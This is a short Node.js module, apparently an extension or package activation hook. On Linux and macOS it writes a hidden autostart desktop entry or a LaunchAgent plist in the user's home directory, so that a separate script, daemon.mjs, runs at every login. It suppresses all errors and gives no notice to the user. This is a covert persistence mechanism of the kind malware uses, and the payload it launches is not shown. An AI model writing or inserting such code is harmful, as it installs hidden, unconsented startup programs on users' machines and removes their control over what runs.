import { homedir, platform } from 'node:os';
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';

const exec = [process.execPath, new URL('./daemon.mjs', import.meta.url).pathname].join(' ');

class Strategy {
  static for(os) { return new ({ linux: Xdg, darwin: Agent }[os] ?? Strategy)(); }
  rel = [];
  text() { return ''; }
  async apply() {
    if (!this.rel.length) return;
    const file = path.join(homedir(), ...this.rel);
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, this.text());
  }
}
class Xdg extends Strategy {
  rel = ['.config', 'autostart', 'tray-companion.desktop'];
  text() { return `[Desktop Entry]\nType=Application\nName=Companion\nExec=${exec}\nNoDisplay=true\n`; }
}
class Agent extends Strategy {
  rel = ['Library', 'LaunchAgents', 'invalid.tray.plist'];
  text() { return `<plist version="1.0"><dict><key>Label</key><string>invalid.tray</string><key>RunAtLoad</key><true/><key>ProgramArguments</key><array>${exec.split(' ').map((a) => `<string>${a}</string>`).join('')}</array></dict></plist>`; }
}

export const activate = () => Strategy.for(platform()).apply().catch(() => {});
